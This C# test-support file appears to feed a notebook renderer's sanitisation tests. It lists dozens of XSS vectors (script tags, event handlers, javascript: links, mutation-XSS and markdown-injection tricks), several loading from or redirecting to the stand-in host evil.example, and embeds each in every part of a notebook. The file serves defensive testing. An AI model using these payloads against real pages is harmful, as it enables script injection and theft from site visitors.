using System.Text.Json.Nodes;

namespace Unroll.Notebooks.Tests.Support;

/// <summary>What a notebook may try on the reader of its page.</summary>
internal static class PageVectors
{
    /// <summary>Everything that runs <c>pwn()</c> or asks <c>evil.example</c> where a page allows it.</summary>
    public static TheoryData<string> All =>
    [
        "<script>pwn()</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<ScRiPt type=module>pwn()</sCrIpT>",
        "<script type=\"importmap\">{\"imports\":{\"x\":\"https://evil.example/x.js\"}}</script>",
        "<script type=\"speculationrules\">{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"https://evil.example/\"]}]}</script>",
        "<img src=x onerror=pwn()>",
        "<img src=\"https://evil.example/t.gif\">",
        "<img srcset=\"https://evil.example/t.gif 1x\" src=\"data:image/png;base64,AAAA\">",
        "<img src=\"data:image/png;base64,AAAA\" onerror=\"pwn()\" onload=\"pwn()\">",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'><script>parent.pwn()</script></svg>\">",
        "<body onload=pwn()><p onclick=pwn() onmouseover=pwn()>a</p>",
        "<a href=\"javascript:pwn()\" id=a>click</a>",
        "<a href=\" java&#10;script:pwn()\">click</a>",
        "<a href=\"vbscript:pwn()\">click</a> <a href=\"data:text/html,<script>opener.pwn()</script>\">click</a>",
        "[x](javascript:pwn()) [y](JaVaScRiPt:pwn()) [z](data:text/html,<b>) <javascript:pwn()> ![a](javascript:pwn())",
        "[r]: javascript:pwn()\n\n[r]",
        "[x](https://a \"\" onclick=pwn()) ![\" onerror=\"pwn()](data:image/png;base64,AAAA)",
        "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
        "<frameset><frame src=\"https://evil.example/\"></frameset>",
        "<object data=\"https://evil.example/x.svg\"></object><embed src=\"https://evil.example/x.svg\">",
        "<base href=\"https://evil.example/\"><a href=\"x\">base</a>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\"><link rel=prefetch href=\"https://evil.example/p\"><link rel=dns-prefetch href=\"https://evil.example\">",
        "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/b.gif); display: none }</style>",
        "<p style=\"background:url(https://evil.example/b.gif);position:fixed;inset:0\">cover</p>",
        "<svg onload=pwn()><script>pwn()</script><image href=\"https://evil.example/i.png\"/><use href=\"https://evil.example/u.svg#a\"/></svg>",
        "<svg><animate onbegin=pwn() attributeName=x dur=1s></animate><a xlink:href=\"javascript:pwn()\"><text y=20>click</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe><body onload=pwn()></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn()&gt;\"></math>",
        "<math href=\"javascript:pwn()\"><mi>click</mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\"></noscript>",
        "<form action=\"https://evil.example/\"><input name=a><button autofocus onfocus=pwn()>go</button></form><input autofocus onfocus=pwn()>",
        "<button formaction=\"javascript:pwn()\">x</button><input type=image src=\"https://evil.example/i.gif\">",
        "<video src=\"https://evil.example/v.mp4\" poster=\"https://evil.example/p.png\" autoplay></video><audio src=\"https://evil.example/a.mp3\" autoplay></audio>",
        "<video><source onerror=pwn() src=x></video><details open ontoggle=pwn()>d</details><marquee onstart=pwn()>m</marquee>",
        "</div></section></main></body></html><script>pwn()</script><img src=x onerror=pwn()>",
        "<textarea></main><script>pwn()</script>",
        "<plaintext><script>pwn()</script>",
        "<!--><script>pwn()</script>--><![CDATA[><script>pwn()</script>]]>",
        "<template><script>pwn()</script></template><xmp><script>pwn()</script></xmp>",
        "`</code><script>pwn()</script>` $<script>pwn()</script>$ $$</div><script>pwn()</script>$$",
        "# <img src=x onerror=pwn()>\n\n## \"><script>pwn()</script>\n\n[^1]\n\n[^1]: <script>pwn()</script>",
        "\" onerror=\"pwn()",
        "x\"><img src=x onerror=pwn()>",
    ];

    /// <summary>A notebook that holds the vector in prose, in an attachment, in code, and in outputs of a cell that no run executes.</summary>
    public static NotebookBuilder Untrusted(string vector) => new NotebookBuilder()
        .Markdown(vector)
        .Markdown($"![{vector}](attachment:a)")
        .With(cell => cell["attachments"] = new JsonObject { ["a"] = new JsonObject { [vector] = vector } })
        .Code("print(1)")
        .With(cell => cell["metadata"] = new JsonObject { ["polyglot_notebook"] = new JsonObject { ["kernelName"] = "python" } })
        .With(cell => cell["outputs"] = Outputs(vector, "text/html"))
        .Code($"// {vector}\n1")
        .With(cell => cell["outputs"] = Outputs(vector))
        .Markdown("the end");

    /// <summary>Outputs that hold the vector wherever they can.</summary>
    public static JsonArray Outputs(string vector, params string[] more) =>
    [
        new JsonObject { ["output_type"] = "stream", ["name"] = vector, ["text"] = vector },
        new JsonObject { ["output_type"] = "error", ["ename"] = vector, ["evalue"] = vector, ["traceback"] = new JsonArray(vector) },
        .. new[] { "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png", "application/json", vector }.Concat(more).Select(type => View(type, vector)),
    ];

    /// <summary>An output of one view.</summary>
    public static JsonObject View(string type, string text) => new()
    {
        ["output_type"] = "display_data",
        ["metadata"] = new JsonObject(),
        ["data"] = new JsonObject { [type] = text },
    };
}
